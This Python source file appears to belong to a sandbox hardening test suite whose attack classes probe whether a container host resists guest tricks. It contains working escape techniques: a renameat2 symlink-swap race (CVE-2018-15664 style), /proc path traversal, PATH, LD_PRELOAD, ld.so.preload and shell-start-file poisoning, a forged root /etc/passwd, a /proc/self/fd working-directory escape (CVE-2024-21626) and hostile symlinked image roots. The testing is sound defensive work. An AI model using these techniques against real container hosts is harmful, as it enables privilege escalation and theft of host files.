"""Attacks on what the host does with a guest: starting commands, moving files, building cells from hostile images."""

from __future__ import annotations

import asyncio
import contextlib
import tempfile
import time
from pathlib import Path

from vallum.arena.attacks.base import GUEST_PYTHON, Ground, Outcome, is_refused
from vallum.client.face import Sandbox
from vallum.core.errors import VallumError

TRANSFERS = 1000
AT_ONCE = 20
RACE_WITHIN_S = 20.0
"""A busy machine makes fewer."""

_SWAP = r"""
import ctypes, os, sys, time
secret, libc = sys.argv[1], ctypes.CDLL(None)
os.nice(5)
os.makedirs("/tmp/race/real", exist_ok=True)
open("/tmp/race/real/secret", "w").write("mine")
open("/tmp/race/real/target", "w").write("mine")
os.symlink(secret, "/tmp/race/link")
print("ready", flush=True)
number = 316 if os.uname().machine == "x86_64" else 276
end = time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    libc.syscall(number, -100, b"/tmp/race/real", -100, b"/tmp/race/link", 2)
"""


class Transfers:
    """Links that are swapped for directories while the host reads and writes (the way of CVE-2018-15664)."""

    name = "file-transfer"
    what = (
        "2000 transfers while a guest exchanges a directory for a link to a host's directory; links, FIFOs, /proc paths"
    )

    async def attack(self, ground: Ground) -> list[Outcome]:
        """See :class:`vallum.arena.attacks.base.Family`."""
        target, secret = str(ground.facts["canary_dir"]), str(ground.facts["canary_secret"]).encode()
        got: list[str] = []
        worked = 0
        async with ground.cell() as cell:
            swapping = asyncio.create_task(
                cell.exec([GUEST_PYTHON, "-I", "-c", _SWAP, target, "600"], timeout_s=600, user=ground.actor.user)
            )
            await asyncio.sleep(0.3)

            async def move(number: int) -> None:
                nonlocal worked
                name = ("/tmp/race/real", "/tmp/race/link")[number % 2]
                with contextlib.suppress(VallumError):
                    if secret in await cell.read_file(f"{name}/secret", user=ground.actor.user):
                        got.append(name)
                    worked += 1
                with contextlib.suppress(VallumError):
                    await cell.write_file(f"{name}/target", b"owned", user=ground.actor.user)

            deadline = time.monotonic() + RACE_WITHIN_S
            for start in range(0, TRANSFERS, AT_ONCE):
                await asyncio.gather(*(move(number) for number in range(start, start + AT_ONCE)))
                if time.monotonic() > deadline:
                    break
            outcomes = [
                ground.outcome(
                    self.name,
                    f"up to {2 * TRANSFERS} transfers in a race",
                    held=not got,
                    detail=f"{start + AT_ONCE} read and written, {worked} of them not refused",
                ),
                ground.outcome(self.name, "some reads went well", held=worked > 0, twin=True),
            ]
            swapping.cancel()
            with contextlib.suppress(asyncio.CancelledError, VallumError):
                await swapping
        async with ground.cell() as cell:
            outcomes += await self._lead_astray(ground, cell, target)
        return outcomes

    async def _lead_astray(self, ground: Ground, cell: Sandbox, target: str) -> list[Outcome]:
        user = ground.actor.user
        links = {
            "a link": f"ln -s {target} /tmp/l",
            "a link to the root's parent": f"ln -s ../../../../../../../..{target} /tmp/up",
            "a link through /proc/1/root": f"ln -s /proc/1/root{target} /tmp/p1",
            "a link through /proc/self/cwd": f"ln -s /proc/self/cwd/../../..{target} /tmp/cwd",
        }
        await cell.exec(["/bin/sh", "-c", "; ".join(links.values()) + "; mkfifo /tmp/fifo; true"], user=user)
        outcomes = []
        for what, path in zip(links, ("/tmp/l", "/tmp/up", "/tmp/p1", "/tmp/cwd"), strict=True):
            why = await is_refused(cell.read_file(f"{path}/secret", user=user))
            outcomes.append(ground.outcome(self.name, f"read through {what}", held=bool(why), detail=why))
            await is_refused(cell.write_file(f"{path}/target", b"owned", user=user))  # judged outside
        for what, path in (
            ("a FIFO", "/tmp/fifo"),
            ("an endless device", "/dev/zero"),
            ("its own memory", "/proc/self/mem"),
        ):
            why = await is_refused(cell.read_file(path, user=user, limit_bytes=1 << 20))
            outcomes.append(ground.outcome(self.name, f"read {what}", held=bool(why), detail=why))
        await cell.write_file("/tmp/plain", b"plain", user=user)
        same = await cell.read_file("/tmp/plain", user=user) == b"plain"
        return [*outcomes, ground.outcome(self.name, "an ordinary file", held=same, twin=True)]


class Hijacks:
    """What the host runs in the guest, poisoned: PATH, the loader, shell start files, the shell itself, passwd."""

    name = "hijack"
    what = "PATH, LD_PRELOAD, ld.so.preload, BASH_ENV, shell start files and /etc/passwd poisoned before the host starts something"

    async def attack(self, ground: Ground) -> list[Outcome]:
        """See :class:`vallum.arena.attacks.base.Family`."""
        outcomes = []
        evil = "#!/bin/sh\\nid -u >> /tmp/marker\\n"
        home = "/root" if ground.actor.user == "root" else "/home/agent"
        poison = (
            f"mkdir -p {home}/bin; for n in su sudo env sh bash sleep cat kill timeout true; do "
            f"printf '{evil}' > {home}/bin/$n; chmod 755 {home}/bin/$n; done; "
            f"for f in .profile .bashrc .bash_profile .bash_login; do echo 'id -u >> /tmp/marker' > {home}/$f; done; "
            "echo /tmp/evil.so > /etc/ld.so.preload; echo 'id -u >> /tmp/marker' > /etc/profile; "
            "cp /bin/sh /tmp/sh.kept; printf '#!/bin/false\\n' > /etc/shells; true"
        )
        async with ground.cell() as cell:
            user = ground.actor.user
            await cell.exec(["/bin/sh", "-c", poison], user=user)
            await cell.write_file("/tmp/file", b"x", user=user)
            await cell.read_file("/tmp/file", user=user)
            await cell.exec(
                ["/bin/true"], user=user, environ={"PATH": f"{home}/bin:/usr/bin:/bin", "BASH_ENV": f"{home}/.bashrc"}
            )
            async with cell.session() as session:
                await session.run("true")
            why = await is_refused(cell.read_file("/tmp/marker", user=user))
            outcomes.append(
                ground.outcome(
                    self.name,
                    "nothing of the guest's ran for the host",
                    held=bool(why),
                    detail=why or "a marker was made",
                )
            )
            if user == "root":
                lines = (
                    "evil:x:65535:65535::/:/bin/sh\\nabove:x:4294967294:0::/:/bin/sh\\nagent:x:0:0::/root:/bin/sh\\n"
                )
                await cell.exec(["/bin/sh", "-c", f"printf '{lines}' > /etc/passwd"], user=user)
                for name in ("evil", "above"):
                    why = await is_refused(cell.exec(["/bin/true"], user=name))
                    outcomes.append(
                        ground.outcome(self.name, f"the user {name} of a forged passwd", held=bool(why), detail=why)
                    )
                ran = await cell.exec(["/usr/bin/id", "-u"], user="0")
                outcomes.append(ground.outcome(self.name, "root by number", held=ran.stdout == b"0\n", twin=True))
        async with ground.cell() as cell:
            seen = [
                number
                for number in range(3, 24)
                if await self._enter(cell, f"/proc/self/fd/{number}", str(ground.facts["canary_dir"]))
            ]
            what = "start in any of /proc/self/fd/3 to 23 (CVE-2024-21626)"
            outcomes.append(ground.outcome(self.name, what, held=not seen, detail=str(seen or "")))
        return outcomes

    @staticmethod
    async def _enter(cell: Sandbox, cwd: str, target: str) -> str:
        try:
            ran = await cell.exec(["/bin/cat", "../" * 12 + target.lstrip("/") + "/secret"], cwd=cwd)
        except VallumError:
            return ""
        return ran.stdout.decode("utf-8", "replace")


class Images:
    """Root file systems that lead the builder astray before any wall stands."""

    name = "images"
    what = "links in the place of /dev, /proc, /sys, masks, devices and mount points (CVE-2025-31133, 52565, 52881, crun CVE-2026-47766)"

    async def attack(self, ground: Ground) -> list[Outcome]:
        """See :class:`vallum.arena.attacks.base.Family`."""
        target = str(ground.facts["canary_dir"])
        traps = {
            "/proc is a link": {"proc": target},
            "/dev is a link": {"dev": target},
            "/dev/null is a link": {"dev/null": f"{target}/target"},
            "/dev/pts is a link": {"dev/pts": target},
            "/dev/shm is a link": {"dev/shm": target},
            "/sys is a link": {"sys": target},
            "/tmp is a link": {"tmp": target},
            "/run is a link": {"run": target},
            "/proc is a relative link": {"proc": "../" * 20 + target.lstrip("/")},
            "/dev is a link to /proc": {"dev": "proc"},
            "/etc/passwd is a link": {"etc/passwd": f"{target}/secret"},
        }
        outcomes = []
        for what, links in traps.items():
            with tempfile.TemporaryDirectory(prefix="vallum-image-") as directory:
                root = Path(directory)
                root.chmod(0o755)
                for name, to in links.items():
                    (root / name).parent.mkdir(parents=True, exist_ok=True)
                    (root / name).symlink_to(to)
                why = await is_refused(self._build(ground, directory))
                # Either is well: refused, or built with the link harmless. What was touched is seen outside.
                outcomes.append(
                    ground.outcome(self.name, what, held=True, detail=why or "built; the link leads nowhere")
                )
        with tempfile.TemporaryDirectory(prefix="vallum-image-") as directory:
            Path(directory).chmod(0o755)
            why = await is_refused(self._build(ground, directory))
            outcomes.append(ground.outcome(self.name, "an empty image is built", held=not why, detail=why, twin=True))
        return outcomes

    @staticmethod
    async def _build(ground: Ground, directory: str) -> None:
        async with ground.cell(image=f"dir:{directory}") as cell:
            with contextlib.suppress(VallumError):
                await cell.write_file("/tmp/x", b"owned", user="0" if ground.actor.user == "root" else "1000")
            with contextlib.suppress(VallumError):
                await cell.write_file("/dev/null", b"owned", user="0" if ground.actor.user == "root" else "1000")
